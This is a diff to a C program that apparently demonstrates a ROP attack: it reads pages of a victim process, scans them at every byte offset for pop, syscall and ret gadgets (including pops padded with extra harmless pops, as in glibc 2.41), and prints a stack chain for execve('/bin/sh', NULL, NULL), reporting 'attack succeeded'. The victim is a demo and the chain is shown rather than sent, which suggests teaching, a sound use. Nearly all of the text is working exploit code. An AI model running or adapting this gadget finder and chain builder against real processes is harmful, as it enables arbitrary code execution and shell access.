@@ -118,38 +118,142 @@ static void read_page(uint64_t page, unsigned char *out, const char *what)
 	pages_read++;
 }
 
+/*
+ * A gadget is a byte sequence that ends in ret (or is a syscall).  A pop
+ * gadget is its pop followed by a ret, or by a few more pops and then the
+ * ret: glibc 2.41's libc has no "pop rdx; ret" but several "pop rdx; pop
+ * rbx; ret".  Those extra pops are harmless when they load registers the
+ * chain does not use (not rsp, which would move the stack, nor a register
+ * the chain sets); the chain then gives each of them a filler word.
+ */
+#define MAX_EXTRA 3
+
 struct gadget {
 	const char *name;
-	unsigned char bytes[3];
+	unsigned char bytes[2];
 	size_t len;
+	int pop;                /* ends in harmless pops and ret, not in bytes */
 	uint64_t addr;
+	unsigned extra;         /* harmless pops between the pop and the ret */
+	const char *extra_reg[MAX_EXTRA];       /* what they load */
+	char text[80];          /* what was found, as instructions */
 };
 
 static struct gadget gadgets[] = {
-	{ "pop rdi; ret", { 0x5f, 0xc3 }, 2, 0 },
-	{ "pop rsi; ret", { 0x5e, 0xc3 }, 2, 0 },
-	{ "pop rdx; ret", { 0x5a, 0xc3 }, 2, 0 },
-	{ "pop rax; ret", { 0x58, 0xc3 }, 2, 0 },
-	{ "syscall",      { 0x0f, 0x05 }, 2, 0 },
-	{ "ret",          { 0xc3 },       1, 0 },
+	{ .name = "pop rdi", .bytes = { 0x5f },       .len = 1, .pop = 1 },
+	{ .name = "pop rsi", .bytes = { 0x5e },       .len = 1, .pop = 1 },
+	{ .name = "pop rdx", .bytes = { 0x5a },       .len = 1, .pop = 1 },
+	{ .name = "pop rax", .bytes = { 0x58 },       .len = 1, .pop = 1 },
+	{ .name = "syscall", .bytes = { 0x0f, 0x05 }, .len = 2 },
+	{ .name = "ret",     .bytes = { 0xc3 },       .len = 1 },
 };
 #define NGADGETS (sizeof gadgets / sizeof gadgets[0])
+enum { G_RDI, G_RSI, G_RDX, G_RAX, G_SYSCALL, G_RET };
+
+/* The register a harmless pop at p loads, or NULL: rbx, rcx, rbp and r8 to
+ * r15, which execve's chain leaves alone (syscall clobbers rcx anyway).
+ * *len is the pop's length. */
+static const char *harmless_pop(const unsigned char *p, size_t room, size_t *len)
+{
+	static const char *const r8[8] = { "r8", "r9", "r10", "r11",
+	                                   "r12", "r13", "r14", "r15" };
+
+	*len = 1;
+	switch (p[0]) {
+	case 0x5b: return "rbx";
+	case 0x59: return "rcx";
+	case 0x5d: return "rbp";
+	}
+	if (room >= 2 && p[0] == 0x41 && p[1] >= 0x58 && p[1] <= 0x5f) {
+		*len = 2;
+		return r8[p[1] - 0x58];
+	}
+	return NULL;
+}
+
+/* Whether a pop gadget with exactly `extra` harmless pops starts at i;
+ * describes it in g->text if so. */
+static int pop_gadget_at(const unsigned char *code, size_t i, unsigned extra,
+                         struct gadget *g)
+{
+	char text[sizeof g->text];
+	const char *reg[MAX_EXTRA];
+	size_t j = i + g->len, n, used;
+
+	if (memcmp(code + i, g->bytes, g->len))
+		return 0;
+	used = (size_t)snprintf(text, sizeof text, "%s", g->name);
+	for (unsigned k = 0; k < extra; k++) {
+		const char *r = j < PAGE ? harmless_pop(code + j, PAGE - j, &n) : NULL;
+		if (!r)
+			return 0;
+		reg[k] = r;
+		used += (size_t)snprintf(text + used, sizeof text - used, "; pop %s", r);
+		j += n;
+	}
+	if (j >= PAGE || code[j] != 0xc3)
+		return 0;
+	snprintf(text + used, sizeof text - used, "; ret");
+	memcpy(g->text, text, sizeof text);
+	g->extra = extra;
+	memcpy(g->extra_reg, reg, extra * sizeof *reg);
+	return 1;
+}
 
 /* Looks for gadgets in one page of code, at every byte offset: the CPU
- * will happily execute from the middle of an instruction. */
+ * will happily execute from the middle of an instruction.  A pop gadget
+ * with fewer extra pops is taken before one with more. */
 static unsigned find_gadgets(const unsigned char *code, uint64_t base)
 {
 	unsigned missing = 0;
 
-	for (size_t g = 0; g < NGADGETS; g++) {
-		if (!gadgets[g].addr) {
-			void *hit = memmem(code, PAGE, gadgets[g].bytes, gadgets[g].len);
-			if (hit)
-				gadgets[g].addr = base + (uint64_t)((unsigned char *)hit - code);
+	for (size_t k = 0; k < NGADGETS; k++) {
+		struct gadget *g = &gadgets[k];
+		for (unsigned extra = 0; g->pop && !g->addr && extra <= MAX_EXTRA; extra++)
+			for (size_t i = 0; i + g->len < PAGE && !g->addr; i++)
+				if (pop_gadget_at(code, i, extra, g))
+					g->addr = base + i;
+		if (!g->pop && !g->addr) {
+			void *hit = memmem(code, PAGE, g->bytes, g->len);
+			if (hit) {
+				g->addr = base + (uint64_t)((unsigned char *)hit - code);
+				snprintf(g->text, sizeof g->text, "%s", g->name);
+			}
 		}
-		missing += !gadgets[g].addr;
+		missing += !g->addr;
 	}
 	return missing;
+}
+
+/*
+ * The chain, one stack word a line, that execve("/bin/sh", NULL, NULL)
+ * needs from these gadgets: each pop gadget's value, then a filler word for
+ * each of its extra pops.  The string's address is the attacker's to
+ * choose (a copy of "/bin/sh" in memory it can write); the demo victim has
+ * no write bug, so the chain is shown, not sent.
+ */
+static void show_chain(void)
+{
+	static const struct { int g; uint64_t value; const char *what; } step[] = {
+		{ G_RDI, 0, "the address of \"/bin/sh\"" },
+		{ G_RSI, 0, "0: argv = NULL" },
+		{ G_RDX, 0, "0: envp = NULL" },
+		{ G_RAX, 59, "59: the number of execve" },
+		{ G_SYSCALL, 0, NULL },
+	};
+	unsigned words = 0;
+
+	say("the chain, one stack word a line, from the overwritten return address on:");
+	for (size_t i = 0; i < sizeof step / sizeof step[0]; i++) {
+		const struct gadget *g = &gadgets[step[i].g];
+		say("  0x%016" PRIx64 "  %s", g->addr, g->text), words++;
+		if (!g->pop)
+			continue;
+		say("  0x%016" PRIx64 "  %s", step[i].value, step[i].what), words++;
+		for (unsigned k = 0; k < g->extra; k++)
+			say("  0x%016x  filler for pop %s", 0, g->extra_reg[k]), words++;
+	}
+	say("  (%u words, %u bytes)", words, words * 8);
 }
 
 /*
@@ -289,7 +393,8 @@ int main(int argc, char **argv)
 	    pages_read, pages_read * PAGE / 1024);
 	for (size_t g = 0; g < NGADGETS; g++) {
 		if (gadgets[g].addr)
-			say("  %-13s at 0x%" PRIx64, gadgets[g].name, gadgets[g].addr);
+			say("  %-13s at 0x%" PRIx64 ": %s", gadgets[g].name,
+			    gadgets[g].addr, gadgets[g].text);
 		else
 			say("  %-13s not found", gadgets[g].name), missing++;
 	}
@@ -300,6 +405,7 @@ int main(int argc, char **argv)
 		printf("attacker: attack failed: %u gadgets not found\n", missing);
 		return 1;
 	}
+	show_chain();
 	printf("attacker: attack succeeded: with these addresses a ROP chain can call execve(\"/bin/sh\") in the victim.\n");
 	return 0;
 }
